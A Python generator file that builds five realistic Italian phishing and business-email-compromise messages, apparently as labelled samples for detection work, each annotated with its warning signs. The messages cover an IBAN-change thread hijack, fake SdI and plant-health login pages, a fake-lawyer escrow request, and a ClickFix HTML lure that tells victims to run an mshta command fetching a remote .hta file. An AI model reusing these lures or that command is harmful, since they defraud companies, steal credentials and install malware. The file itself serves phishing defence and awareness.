"""Italian attack messages (5)."""
import html as _h

import company as C
import files
import ids
import infra as I
from core import Text, Att, Multi, m, alt, html_wrap, link_html, quote_lines

W = C.who


@m('it', 'carrier-thread-hijack-iban-change')
def a_ferretti(ctx):
    t = I.T(2026, 11, 6, 10, 47, 3)
    rcpt = W('francesca.niccolai')
    sender = ('Chiara Colombo', 'c.colombo@ferretti-trasporti.it')
    r = I.aruba(ctx.rng, t, rcpt[1], client_ip='185.225.73.41', client_helo='WIN-Q3L7H0RJ2KD')
    r.msgid = '<000901db%s$%s$%s@ferretti-trasporti.it>' % (I.hexs(ctx.rng, 4), I.hexs(ctx.rng, 8), I.hexs(ctx.rng, 8))
    prev = '<a41c7be0f2d94a3d8e5b7c16f0d2e934@EXCH01.corp.example.com>'
    iban = ids.iban_fmt(C.FERRETTI_FAKE)
    text = """Gentile Francesca,

grazie per il riepilogo. Le comunico che, a seguito di una verifica fiscale
in corso, il nostro conto presso Banco BPM è temporaneamente vincolato e non
può ricevere accrediti fino a nuova comunicazione. Per non bloccare i
prossimi viaggi Pistoia-Oldenburg vi chiediamo di saldare le fatture di
ottobre (FT 2026/2291, 2026/2317, 2026/2344 - totale 21.460,00 EUR) sul
conto della nostra consociata in Portogallo:

Intestatario: Ferretti Trasporti S.p.A. - Sucursal em Portugal
Banca: Banco Montepio
IBAN: {iban}
BIC: MPIOPTPL

In allegato la comunicazione firmata dall'amministrazione. Vi prego di
confermarmi l'esecuzione del bonifico rispondendo a questa mail, oggi
l'ufficio amministrazione non è raggiungibile telefonicamente per
l'inventario.

Cordiali saluti

Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.p.A.
Via Fiorentina 412 - 51100 Pistoia

-----Messaggio originale-----
Da: Francesca Niccolai <francesca.niccolai@examplegroup.eu>
Inviato: giovedì 5 novembre 2026 17:12
A: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Oggetto: fatture ottobre - viaggi Pistoia-Oldenburg

Buonasera Chiara,
vi confermo che le fatture di ottobre sono in pagamento con la distinta
del 20/11. Mi mandate per favore i CMR firmati del viaggio del 28/10?

Grazie e buona serata
Francesca Niccolai
Example Group Italia S.r.l. - Amministrazione
""".format(iban=iban)
    pdf = files.pdf([(14, True, 'Ferretti Trasporti S.p.A.'), 'Via Fiorentina 412 - 51100 Pistoia - P.IVA ' + C.FERRETTI_PIVA, '',
                     'Spett.le Example Group Italia S.r.l.', '', (12, True, 'Oggetto: variazione temporanea coordinate bancarie'), '',
                     'Con la presente vi comunichiamo che, fino a nuova comunicazione, i pagamenti dovranno essere',
                     'effettuati esclusivamente sul seguente conto:', '', 'Ferretti Trasporti S.p.A. - Sucursal em Portugal',
                     'Banco Montepio - IBAN ' + iban + ' - BIC MPIOPTPL', '',
                     'Pistoia, 05/11/2026', 'L\'Amministrazione'],
                    title='Comunicazione', author='amministrazione', producer='Microsoft: Print To PDF', creator='Word',
                    date="D:20261106103100+01'00'")
    a = alt(ctx, r, text, None, 'windows-1252', 'quoted-printable', bstyle='outlook', lang='it')
    root = Multi('mixed', [a, Att(pdf, 'application/pdf', 'Comunicazione_variazione_IBAN.pdf')], ctx.boundary(r, 'outlook'),
                 preamble='This is a multipart message in MIME format.')
    return ctx.build(r, 'outlook', sender, [rcpt], 'R: fatture ottobre - viaggi Pistoia-Oldenburg', I.rdate(t, 'CET'), root,
                     reply_to=('Chiara Colombo', 'c.colombo@ferretti-trasporti.com'), irt=prev, refs=prev,
                     hcs='windows-1252', mailer=('X-Mailer', 'Microsoft Outlook 16.0'), lang_tag='it',
                     what='Thread hijack from the genuinely compromised mailbox of carrier Ferretti Trasporti: bank change to a Portuguese account in a real invoice thread',
                     why='Logged in to Aruba SMTP with the stolen password from a foreign VPS (185.225.73.41, Windows host name), Reply-To diverts to look-alike ferretti-trasporti.com, traffic clerk (not accounting) announces a "temporary" foreign account, blocked-account story, phone unavailable')


@m('it', 'sdi-rejected-invoice-phish')
def a_sdi(ctx):
    t = I.T(2026, 11, 17, 7, 12, 44)
    rcpt = W('francesca.niccolai')
    r = I.mailgun(ctx.rng, t, rcpt[1], 'mg.notifiche-fatturapa.it')
    url = 'https://fatturapa-agenziaentrate.servizi-sdi.com/accesso/?idfile=IT%s_0%s&u=%s' % (
        C.EG_IT_PIVA, I.rs(ctx.rng, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789', 4), I.hexs(ctx.rng, 16))
    text = """Agenzia delle Entrate - Sistema di Interscambio

NOTIFICA DI SCARTO

Identificativo SdI: 1{sdi}
Nome file: IT{piva}_0A7Q3.xml
Cedente/prestatore: Example Group Italia S.r.l.
Data ricezione: 16/11/2026

La fattura elettronica n. 2026/1187 è stata scartata per il seguente motivo:
00305 - 1.4.1.1.2 <IdCodice> non valido

Attenzione: in caso di mancata correzione entro 5 giorni dalla notifica la
fattura si considera non emessa ai sensi dell'art. 21 DPR 633/72 e saranno
applicate le sanzioni previste.

Per visualizzare il dettaglio dell'esito e ritrasmettere il file accedere
all'area riservata "Fatture e Corrispettivi" con SPID, CIE o credenziali
Entratel:

{url}

Questa è una comunicazione automatica, si prega di non rispondere.
""".format(sdi=ctx.rng.randrange(10 ** 10, 10 ** 11), piva=C.EG_IT_PIVA, url=url)
    html = ('<div style="font-family:Titillium Web,Arial,sans-serif;max-width:620px;color:#17324d">'
            '<div style="background:#0066cc;color:#fff;padding:14px 20px;font-size:18px">Agenzia delle Entrate &ndash; Sistema di Interscambio</div>'
            '<div style="padding:20px"><h2 style="color:#d9364f">Notifica di scarto</h2>'
            '<p>La fattura elettronica n. <b>2026/1187</b> trasmessa da <b>Example Group Italia S.r.l.</b> è stata <b>scartata</b> per il seguente motivo:</p>'
            '<p style="background:#f5f5f5;padding:10px;font-family:monospace">00305 - 1.4.1.1.2 &lt;IdCodice&gt; non valido</p>'
            '<p>In caso di mancata correzione entro <b>5 giorni</b> dalla notifica la fattura si considera non emessa e saranno applicate le sanzioni previste.</p>'
            '<p><a href="%s" style="background:#0066cc;color:#fff;padding:10px 22px;text-decoration:none">Accedi con SPID o CIE</a></p>'
            '<p style="font-size:12px;color:#5c6f82">Questa è una comunicazione automatica, si prega di non rispondere.</p></div></div>') % _h.escape(url)
    a = Multi('alternative', [Text(text, 'plain', 'utf-8', 'quoted-printable'),
                              Text(html_wrap(html, 'it', 'Arial').replace('%CHARSET%', 'utf-8'), 'html', 'utf-8', 'quoted-printable')],
              ctx.boundary(r))
    return ctx.build(r, 'esp', ('Agenzia delle Entrate - SdI', 'noreply@notifiche-fatturapa.it'), [rcpt],
                     'Notifica di scarto - fattura 2026/1187 - Example Group Italia S.r.l.', I.rdate(t, 'CET'), a,
                     hcs='utf-8',
                     what='Credential phishing posing as an SdI (Italian e-invoicing exchange) rejection notice with SPID login',
                     why='SdI notifications arrive as XML receipts through the transmission channel/PEC, not as Mailgun mail from notifiche-fatturapa.it; link to servizi-sdi.com look-alike asking for SPID/Entratel credentials; deadline and sanctions')


@m('it', 'clickfix-quote-html')
def a_clickfix(ctx):
    t = I.T(2026, 11, 24, 9, 3, 21)
    rcpt = W('lorenzo.bartolini')
    cip = '91.92.243.17'
    r = I.generic_smtp(ctx.rng, t, rcpt[1], 'authsmtp.securemail.pro', 'authsmtp%d.register.it' % ctx.rng.randrange(10, 40),
                       '81.88.48.%d' % ctx.rng.randrange(60, 99), inner=[
                           'from DESKTOP-8RT2L1M ([%s])\n\tby cmsmtp with ESMTPSA\n\tid %s; %s' % (
                               cip, I.rs(ctx.rng, I.ALNUM, 10), I.rdate(I.plus(t, 1), 'CET'))])
    cmd = 'mshta https://cdn-docverify-it.com/v/pr2026388.hta  # Verifica documento - ID 8823-OK'
    page = """<!DOCTYPE html>
<html lang="it"><head><meta charset="windows-1252"><title>Preventivo_2026-388.pdf - Visualizzatore documenti</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#e9ecef;margin:0}}
.bar{{background:#2b579a;color:#fff;padding:10px 18px;font-size:15px}}
.doc{{max-width:700px;margin:30px auto;background:#fff;padding:30px;filter:blur(0)}}
.err{{border:1px solid #d13438;background:#fde7e9;padding:18px;margin-top:18px}}
.cmd{{font-family:Consolas,monospace;background:#1e1e1e;color:#dcdcdc;padding:10px;user-select:all}}</style></head>
<body><div class="bar">Visualizzatore documenti online</div>
<div class="doc"><p style="color:#999">Preventivo n. 2026-388 - Vivaio Il Poggio (anteprima non disponibile)</p>
<div class="err"><b>Errore 0x80070005: impossibile caricare i caratteri del documento.</b>
<p>Per visualizzare il preventivo è necessario aggiornare il certificato di visualizzazione. Procedura di verifica:</p>
<ol><li>Selezionare il testo nel riquadro qui sotto e copiarlo (Ctrl + C)</li>
<li>Premere <b>Windows + R</b></li><li>Incollare (Ctrl + V) e premere <b>Invio</b></li></ol>
<div class="cmd">{cmd}</div>
<p style="font-size:12px;color:#555">Il documento si aprirà automaticamente al termine della verifica.</p></div></div>
</body></html>
""".format(cmd=_h.escape(cmd))
    text = """Buongiorno,

come da accordi telefonici con il vostro ufficio acquisti vi inviamo il
preventivo per la fornitura di Photinia x fraseri 'Red Robin' vaso 18 e
Olea europaea 'Leccino' circ. 16-18 per la stagione primaverile.

Il documento è in allegato (formato web, si apre con il browser).
Restiamo in attesa di un vostro riscontro entro venerdì, poiché le quantità
disponibili sono limitate.

Cordiali saluti

Ufficio Commerciale
Vivaio Il Poggio di Bargellini M. & C. s.s. agricola
Via di Montalbano 88 - 51035 Lamporecchio (PT)
"""
    root = Multi('mixed', [Text(text, 'plain', 'windows-1252', 'quoted-printable'),
                           Att(page.encode('cp1252'), 'text/html', 'Preventivo_2026-388.html', ct_extra='; charset="windows-1252"')], ctx.boundary(r, 'outlook'))
    return ctx.build(r, 'outlook', ('Vivaio Il Poggio - Ufficio Commerciale', 'commerciale@vivaioilpoggio.it'), [rcpt],
                     'Preventivo 2026-388 - fornitura primavera 2027', I.rdate(t, 'CET'), root, hcs='windows-1252',
                     mailer=('X-Mailer', 'Microsoft Outlook 16.0'), lang_tag='it',
                     msgid='<001201db%s$%s$%s@vivaioilpoggio.it>' % (I.hexs(ctx.rng, 4), I.hexs(ctx.rng, 8), I.hexs(ctx.rng, 8)),
                     what='ClickFix lure: "quote" from a nursery as an HTML file that shows a fake viewer error and tells the user to paste an mshta command into Win+R',
                     why='Compromised Register.it mailbox used from a foreign host (91.92.243.17); the attachment instructs the user to run mshta with a remote .hta (living-off-the-land malware launcher); no real viewer asks for Win+R; unknown supplier, scarcity pressure')


@m('it', 'fake-lawyer-confidential-acquisition')
def a_lawyer(ctx):
    t = I.T(2026, 11, 26, 8, 19, 58)
    rcpt = W('francesca.niccolai')
    fake = 'g.marchetti@studiolegale-marchetti.eu'
    r = I.vps_postfix(ctx.rng, t, rcpt[1], 'mail.studiolegale-marchetti.eu', 'vps-3f2a1c8d.vps.ovh.net', '51.68.201.114', fake)
    text = """Gentile Dott.ssa Niccolai,

mi presento: sono l'Avv. Giulia Marchetti dello Studio Legale Marchetti &
Associati di Milano. Il nostro studio assiste il Dott. Jörg Brückner e il
Consiglio di Sorveglianza di Example Group nell'ambito di un'operazione
riservata di acquisizione di un vivaio in Toscana, soggetta a obblighi di
riservatezza nei confronti della CONSOB.

Su indicazione del Dott. Brückner, che le scriverà a breve per conferma, le
chiedo di predisporre oggi un bonifico di 94.800,00 EUR a titolo di
caparra confirmatoria sul conto di garanzia (escrow) indicato nell'accordo di
riservatezza allegato. Il Dott. Bartolini non è ancora stato informato e la
preghiamo di non discuterne con altri colleghi fino all'annuncio ufficiale
previsto per il 15 dicembre.

Trattandosi di un'operazione soggetta a vincoli di riservatezza, le chiedo
di comunicare esclusivamente tramite questo indirizzo email.

Distinti saluti

Avv. Giulia Marchetti
Studio Legale Marchetti & Associati
Via Borgonuovo 21 - 20121 Milano
"""
    pdf = files.pdf([(13, True, 'STUDIO LEGALE MARCHETTI & ASSOCIATI'), 'Via Borgonuovo 21 - 20121 Milano', '',
                     (12, True, 'ACCORDO DI RISERVATEZZA E ISTRUZIONI DI PAGAMENTO'), 'Rif.: Progetto "Cipresso"', '',
                     'Il sottoscritto destinatario si impegna a non divulgare alcuna informazione relativa al Progetto.',
                     'Caparra confirmatoria: EUR 94.800,00', 'Beneficiario: MRC Escrow Services Ltd',
                     'IBAN: ' + ids.iban('CY', '002' + '00128' + '0000003570418821'), 'BIC: BCYPCY2N', '',
                     'Milano, 26/11/2026', 'Avv. Giulia Marchetti'],
                    title='NDA Progetto Cipresso', author='GM', producer='Microsoft: Print To PDF', creator='Word',
                    date="D:20261126090000+01'00'")
    body = Text(text, 'plain', 'iso-8859-15', 'quoted-printable', quote_charset=False)
    root = Multi('mixed', [body, Att(pdf, 'application/pdf', 'NDA_Progetto_Cipresso.pdf')], ctx.boundary(r))
    return ctx.build(r, 'roundcube', ('Avv. Giulia Marchetti', fake), [rcpt],
                     'Riservato - Progetto Cipresso', I.rdate(t, 'CET'), root, hcs='iso-8859-15',
                     mailer=('User-Agent', 'Roundcube Webmail/1.6.9'), extra=[('X-Sender', fake), ('Organization', 'Studio Legale Marchetti & Associati')],
                     what='Fake-lawyer BEC: a "law firm" acting for the CEO asks the Italian accountant for a confidential escrow payment',
                     why='Newly set up law-firm domain on an OVH VPS, invokes the CEO and regulator secrecy, excludes the local manager, Cypriot escrow account, "communicate only via this address"')


@m('it', 'plant-health-register-ruop-phish')
def a_ruop(ctx):
    t = I.T(2026, 12, 2, 10, 0, 12)
    rcpt = W('lorenzo.bartolini')
    r = I.ses(ctx.rng, t, rcpt[1])
    url = 'https://ruop-servizifitosanitari-toscana.it/spid/login?op=IT-09-%d' % ctx.rng.randrange(10 ** 5, 10 ** 6)
    text = """Regione Toscana
Servizio Fitosanitario Regionale

Oggetto: aggiornamento obbligatorio iscrizione RUOP - Reg. (UE) 2016/2031

Spett.le operatore professionale,

dalle verifiche sul Registro Ufficiale degli Operatori Professionali (RUOP)
risulta che la Vostra iscrizione, autorizzata all'emissione del passaporto
delle piante, non è stata aggiornata con la comunicazione annuale prevista
dall'art. 66 del Reg. (UE) 2016/2031.

In assenza di aggiornamento entro il 10/12/2026 l'autorizzazione al rilascio
del passaporto delle piante verrà sospesa e le spedizioni di materiale
vivaistico non potranno essere accompagnate da passaporto valido.

L'aggiornamento si effettua online accedendo con SPID o CIE al portale dei
servizi fitosanitari:
{url}

Distinti saluti
Il Responsabile del procedimento
Servizio Fitosanitario Regionale - Regione Toscana
""".format(url=url)
    html = ('<div style="font-family:Arial,sans-serif;font-size:14px;max-width:640px">'
            '<p style="color:#0b5394;font-size:17px"><b>Regione Toscana</b><br>Servizio Fitosanitario Regionale</p>'
            '<p><b>Oggetto: aggiornamento obbligatorio iscrizione RUOP - Reg. (UE) 2016/2031</b></p>'
            '<p>Spett.le operatore professionale,</p><p>dalle verifiche sul Registro Ufficiale degli Operatori Professionali (RUOP) risulta che la Vostra iscrizione, autorizzata all\'emissione del passaporto delle piante, non è stata aggiornata con la comunicazione annuale prevista dall\'art. 66 del Reg. (UE) 2016/2031.</p>'
            '<p>In assenza di aggiornamento entro il <b>10/12/2026</b> l\'autorizzazione al rilascio del passaporto delle piante verrà <b>sospesa</b>.</p>'
            '<p><a href="%s" style="background:#0b5394;color:#fff;padding:10px 20px;text-decoration:none">Entra con SPID</a></p>'
            '<p>Distinti saluti<br>Il Responsabile del procedimento<br>Servizio Fitosanitario Regionale - Regione Toscana</p></div>') % _h.escape(url)
    a = Multi('alternative', [Text(text, 'plain', 'iso-8859-1', 'quoted-printable'),
                              Text(html_wrap(html, 'it', 'Arial').replace('%CHARSET%', 'iso-8859-1'), 'html', 'iso-8859-1', 'base64')],
              ctx.boundary(r))
    return ctx.build(r, 'esp', ('Servizio Fitosanitario Regionale', 'ruop@servizifitosanitari-toscana.it'), [rcpt],
                     'Aggiornamento obbligatorio iscrizione RUOP - scadenza 10/12/2026', I.rdate(t, 'CET'), a, hcs='iso-8859-1',
                     what='Trade-specific regulator phish: fake Tuscan plant-health service threatens to suspend the plant-passport authorisation unless the RUOP entry is "updated" via SPID',
                     why='Regional plant-health services write from regione.toscana.it / PEC, not from Amazon SES and a look-alike domain; link harvests SPID credentials; deadline and suspension threat aimed at a nursery')


MESSAGES = [a_ferretti, a_sdi, a_clickfix, a_lawyer, a_ruop]
